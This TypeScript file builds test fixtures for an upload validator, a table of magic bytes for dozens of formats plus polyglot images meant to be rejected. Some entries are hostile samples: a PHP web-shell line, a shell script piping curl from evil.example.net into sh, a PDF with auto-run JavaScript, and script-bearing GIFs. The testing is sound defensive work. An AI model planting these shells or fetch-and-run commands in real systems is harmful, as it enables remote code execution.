import { gzipSync } from 'node:zlib';
import { gradient } from './gradient.ts';
import { buildFiles, type TestFiles, PAYLOAD } from './payload.ts';

/** The magic bytes of other file formats. */
const magicBytes: Record<string, string> = {
  bmp: 'BM\x36\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x08\0\0\0\x08\0\0\0\x01\0\x18\0',
  ico: '\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0',
  cur: '\0\0\x02\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0',
  icns: 'icns\0\0\x01\0ic07',
  heic: '\0\0\0\x18ftypheic\0\0\0\0mif1heic',
  'jpeg 2000': '\0\0\0\x0cjP  \r\n\x87\n',
  'jpeg 2000 stream': '\xff\x4f\xff\x51\0\x2f',
  'jpeg xl': '\xff\x0a',
  'jpeg xl container': '\0\0\0\x0cJXL \r\n\x87\n',
  'jpeg xr': 'II\xbc\x01\x08\0\0\0',
  'jpeg-ls': '\xff\xd8\xff\xf7\0\x0b\x08\0\x08\0\x08\x01\x01\x11\0',
  mng: '\x8aMNG\r\n\x1a\n',
  jng: '\x8bJNG\r\n\x1a\n',
  psd: '8BPS\0\x01\0\0\0\0\0\0\0\x03\0\0\0\x08\0\0\0\x08\0\x08\0\x03',
  xcf: 'gimp xcf file\0',
  dds: 'DDS \x7c\0\0\0',
  exr: '\x76\x2f\x31\x01\x02\0\0\0',
  'radiance hdr': '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 8 +X 8\n',
  fits: 'SIMPLE  =                    T',
  ppm: 'P6\n8 8\n255\n',
  pgm: 'P5\n8 8\n255\n',
  pfm: 'PF\n8 8\n-1.0\n',
  xbm: '#define x_width 8\n#define x_height 8\nstatic char x_bits[] = {',
  xpm: '/* XPM */\nstatic char *x[] = {"8 8 1 1",',
  pcx: '\x0a\x05\x01\x08\0\0\0\0\x07\0\x07\0',
  tga: '\0\0\x02\0\0\0\0\0\0\0\0\0\x08\0\x08\0\x18\0',
  qoi: 'qoif\0\0\0\x08\0\0\0\x08\x03\0',
  emf: '\x01\0\0\0\x6c\0\0\0',
  wmf: '\xd7\xcd\xc6\x9a\0\0',
  eps: '%!PS-Adobe-3.0 EPSF-3.0\n',
  pdf: '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n',
  mp4: '\0\0\0\x18ftypmp42\0\0\0\0isom',
  webm: '\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01',
  avi: 'RIFF\0\x01\0\0AVI LIST',
  wav: 'RIFF\0\x01\0\0WAVEfmt ',
  mp3: 'ID3\x03\0\0\0\0\0\x0a',
  ogg: 'OggS\0\x02',
  swf: 'FWS\x09',
  zip: 'PK\x03\x04\x14\0\0\0\0\0',
  rar: 'Rar!\x1a\x07\x01\0',
  '7z': '7z\xbc\xaf\x27\x1c\0\x04',
  xz: '\xfd7zXZ\0',
  bzip2: 'BZh91AY&SY',
  elf: '\x7fELF\x02\x01\x01\0',
  exe: 'MZ\x90\0\x03\0\0\0',
  'java class': '\xca\xfe\xba\xbe\0\0\0\x34',
  wasm: '\0asm\x01\0\0\0',
  sqlite: 'SQLite format 3\0',
  woff2: 'wOF2\0\x01\0\0',
  rtf: '{\\rtf1\\ansi ',
  php: '<?php system($_GET["c"]); ?>',
  'shell script': '#!/bin/sh\ncurl evil.example.net | sh\n',
  javascript: 'alert(document.domain);//',
  'mail message': 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n',
};

/** Files of other formats, which must be rejected whatever their name. */
export async function otherFormatFiles(): Promise<TestFiles> {
  const gif = await gradient(8, 8).gif().toBuffer();
  const imageAs = (format: 'gif' | 'webp' | 'tiff' | 'avif') =>
    gradient(60, 40).toFormat(format, { effort: 1 }).toBuffer();
  return {
    ...buildFiles(magicBytes, '*', (text) => Buffer.from(text + PAYLOAD.repeat(20), 'latin1')),
    gif: await imageAs('gif'),
    webp: await imageAs('webp'),
    tiff: await imageAs('tiff'),
    avif: await imageAs('avif'),
    'gif with html after its end': Buffer.concat([gif, Buffer.from(PAYLOAD)]),
    'gif that is a script': Buffer.from(`GIF89a/*${'\0'.repeat(20)}*/=1;alert(1)//${PAYLOAD}`),
    gzip: gzipSync(PAYLOAD),
    empty: Buffer.alloc(0),
    'one byte': Buffer.from([0xff]),
    'zeros alone': Buffer.alloc(5000),
    'spaces alone': Buffer.alloc(5000, ' '),
  };
}
